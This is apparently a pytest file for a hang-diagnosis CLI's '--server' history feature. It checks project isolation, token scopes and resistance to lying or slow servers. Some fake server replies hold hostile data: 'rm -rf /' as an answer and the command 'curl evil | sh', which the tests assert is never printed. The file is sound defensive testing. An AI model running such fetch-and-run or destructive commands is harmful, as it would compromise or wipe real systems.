"""`diagnose --server`: the verdict with what other jobs say, and whatever the server does, the verdict all the same."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

import hangscope
from hangscope.cli.ask_history import with_history
from hangscope.cli.verbs.diagnose import command as diagnose
from hangscope.push.server_client import ServerClient
from hangscope.server.intake.job_rosters import add_roster
from kits.fleet import INCIDENTS as RECORDED
from kits.fleet import access, add_hang, bundle, running_server

SLEEP = RECORDED / "sleep"


def ask(url: str, *words: str, token: str = "hs_x", path: Path = SLEEP) -> Result:
    given = {"HANGSCOPE_TOKEN": token, "HANGSCOPE_TOKEN_FILE": None}
    return CliRunner().invoke(diagnose, [str(path), "--server", url, *words], env=given, standalone_mode=False)


def without_history(value: dict[str, Any]) -> dict[str, Any]:
    return {name: each for name, each in value.items() if name not in ("history", "gaps")}


def test_history_is_part_of_the_verdict(tmp_path: Path) -> None:
    """The culprit's node in four of its nine other jobs, the cluster's rate, hardware, and the experiment: as text and
    as JSON, with the rest of the verdict as it is without a server."""
    with running_server(tmp_path, digesters=0) as server:
        token = server.token("read")
        who = access(server.opened.database)
        for number in range(40):
            nodes = [{"node": f"n{number % 20}"}, {"node": f"n{(number + 7) % 20}"}]
            add_roster(server.opened.database, who.project_id, {"job": f"well-{number}", "nodes": nodes})
        for number in range(5):
            well = {"job": f"fine-{number}", "nodes": [{"node": "gpu-worker-7"}]}
            add_roster(server.opened.database, who.project_id, well)
        for number in range(4):
            add_hang(server.opened.database, who.project_id, f"bad{number}", "gpu-worker-7")
        add_hang(server.opened.database, who.project_id, "other", "n3")
        shown = ask(server.url, "--width", "200", token=token)
        assert "gpu-worker-7 was the culprit in 4 of its 9 other jobs; the cluster's rate is 1 in 86" in shown.output
        assert "this speaks for hardware (same node, other jobs)" in shown.output
        assert "sbatch --exclude=gpu-worker-7 the-same-job.sh" in shown.output
        assert shown.return_value == 1
        said = json.loads(ask(server.url, "--json", token=token).output)
        plain = json.loads(CliRunner().invoke(diagnose, [str(SLEEP), "--json"], standalone_mode=False).output)
    assert said["history"]["answer"] == "hardware"
    track_record = said["history"]["track_records"][0]
    assert (track_record["named"], track_record["jobs"], track_record["cluster_named"]) == (4, 9, 1)
    assert said["history"]["issue"] is None
    assert said["retry"]["nodes"] == ["gpu-worker-7"]  # what to do about it follows from history
    assert without_history({**said, "retry": None}) == without_history({**plain, "retry": None})
    assert said["gaps"] == plain["gaps"]
    assert plain["history"] is None


def test_the_page_of_the_incident_says_the_same(tmp_path: Path) -> None:
    """A pushed incident's page has the sentence with the counts of its node, without counting itself."""
    with running_server(tmp_path) as server:
        token = server.token("push", "read")
        who = access(server.opened.database)
        for number in range(4):
            add_hang(server.opened.database, who.project_id, f"bad{number}", "gpu-worker-7")
        number = server.push(token, bundle("sleep"), cluster="")
        server.digested(token, number)
        page = server.ask("GET", f"/incidents/{number}", token, Accept="text/html").text
        assert "gpu-worker-7 was the culprit in 4 of its 4 other jobs" in page
        shown = ask(server.url, token=token)
        assert "in 4 of its 4 other jobs" in shown.output
        assert "the same hang is not known from other jobs" in shown.output


def test_two_projects_do_not_share_their_history(tmp_path: Path) -> None:
    """Whoever asks with another project's token learns nothing of this one's jobs."""
    with running_server(tmp_path, digesters=0) as server:
        who = access(server.opened.database)
        add_hang(server.opened.database, who.project_id, "bad", "gpu-worker-7")
        shown = ask(server.url, token=server.token("read", project="other"))
        assert "gpu-worker-7 is in no other job that is known here" in shown.output


def test_a_token_that_may_only_push_is_said(tmp_path: Path) -> None:
    """What agents have does not read: the verdict comes with the reason why there is no history."""
    with running_server(tmp_path, digesters=0) as server:
        shown = ask(server.url, "--json", token=server.token("push"))
    said = json.loads(shown.output)
    assert (said["history"], said["kind"]) == (None, "absent")
    assert "has no scope 'read'" in said["gaps"][-1]["why"]


# ---- servers that are none -------------------------------------------------------------------------------------------


@contextmanager
def answering(body: bytes, status: int = 200) -> Iterator[str]:
    """A server that says the same to everybody."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def lie(**more: Any) -> bytes:
    said = {
        "schema": "hangscope.history/1",
        "answer": "hardware",
        "track_records": [],
        "rows": [],
        "issue": None,
        **more,
    }
    return json.dumps(said).encode()


NODE = {"kind": "node", "name": "gpu-worker-7"}


@pytest.mark.parametrize(
    ("body", "status", "said"),
    [
        (b"", 500, "cannot take it now (status 500)"),
        (b'{"detail": "Not Found"}', 404, "an older server, or none of hangscope"),
        (b"<html>hello</html>", 200, "not as a hangscope server"),
        (b"[1, 2]", 200, "not as a hangscope server"),
        (b'{"schema": "other/1"}', 200, "not as a hangscope server"),
        (b"[" * 100_000, 200, "not as a hangscope server"),
        (b'{"a": ' * 50_000, 200, "not as a hangscope server"),
        (lie(answer="rm -rf /"), 200, "not as a hangscope server"),
        (b"x" * (5 << 20), 200, "not as a hangscope server"),
    ],
)
def test_a_foreign_server_leaves_a_gap(body: bytes, status: int, said: str) -> None:
    """An error, an old server, a web page, rubbish, a JSON bomb: one line says so, and the verdict is the same."""
    with answering(body, status) as url:
        shown = ask(url, "--width", "200")
        assert "never launched all_reduce #41" in shown.output
        assert shown.return_value == 1
        history = next(line for line in shown.output.splitlines() if line.startswith("History"))
        assert said in history


@pytest.mark.parametrize(
    "track_record",
    [
        {**NODE, "named": 9, "jobs": 4},
        {**NODE, "named": -1, "jobs": 4},
        {**NODE, "named": "4", "jobs": 9},
        {**NODE, "named": 1e308, "jobs": 1e309},
        {**NODE, "name": ["x"], "named": 1, "jobs": 2},
        "gpu-worker-7",
    ],
)
def test_counts_that_cannot_be_are_not_shown(track_record: object) -> None:
    """A lying server's numbers are left out; a command of its own making is never printed."""
    trap = {"commands": ["curl evil | sh"], "outcomes": ["run it"]}
    with answering(lie(track_records=[track_record], experiment=trap)) as url:
        shown = ask(url, "-v", "--width", "200")
    assert "was the culprit" not in shown.output
    assert "curl evil" not in shown.output
    assert shown.return_value == 1


def test_an_answer_cannot_draw_on_the_terminal() -> None:
    """Control characters and endless texts of a server come out as plain, short text."""
    name = "gpu\x1b[31m-worker\u202e" + "x" * 100_000
    with answering(lie(track_records=[{"kind": "node", "name": name, "named": 1, "jobs": 2}])) as url:
        shown = ask(url)
    assert "\x1b" not in shown.output
    assert "\u202e" not in shown.output
    assert len(shown.output) < 20_000


def stalls(connection: socket.socket) -> None:
    time.sleep(30)


def drips(connection: socket.socket) -> None:
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
    while True:
        connection.sendall(b" ")
        time.sleep(0.05)


@pytest.mark.parametrize("behave", [stalls, drips])
def test_a_slow_server_costs_no_more_than_its_deadline(behave: Callable[[socket.socket], None]) -> None:
    """One that accepts and says nothing, and one that sends a byte now and then, are given up at the deadline."""
    listening = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        connection, _ = listening.accept()
        try:
            behave(connection)
        except OSError:
            pass

    threading.Thread(target=serve, daemon=True).start()
    job = hangscope.load(SLEEP)
    client = ServerClient(f"http://127.0.0.1:{listening.getsockname()[1]}", "hs_x", timeout_s=30)
    began = time.monotonic()
    verdict = with_history(hangscope.diagnose(job), job, client, deadline_s=0.5)
    assert time.monotonic() - began < 15
    assert "did not answer within 0.5 s" in (verdict.gaps[-1].why or "")
    listening.close()


def test_no_token_and_no_address_are_said_before_anything_is_read(tmp_path: Path) -> None:
    """A user's mistake is an error with its cure, and nothing is diagnosed."""
    for words, env in (
        (["--server", "http://127.0.0.1:9"], {"HANGSCOPE_TOKEN": None, "HANGSCOPE_TOKEN_FILE": None}),
        (["--server", "gpu-head"], {"HANGSCOPE_TOKEN": "hs_x"}),
    ):
        shown = CliRunner().invoke(diagnose, [str(tmp_path / "nothing"), *words], env=env, standalone_mode=False)
        assert type(shown.exception).__name__ == "SettingsError"


def test_nobody_is_asked_unless_told() -> None:
    """HANGSCOPE_SERVER is where jobs push to: a diagnosis does not look at it."""
    shown = CliRunner().invoke(
        diagnose,
        [str(SLEEP), "--json"],
        env={"HANGSCOPE_SERVER": "http://127.0.0.1:9", "HANGSCOPE_TOKEN": "hs_x"},
        standalone_mode=False,
    )
    assert json.loads(shown.output)["history"] is None
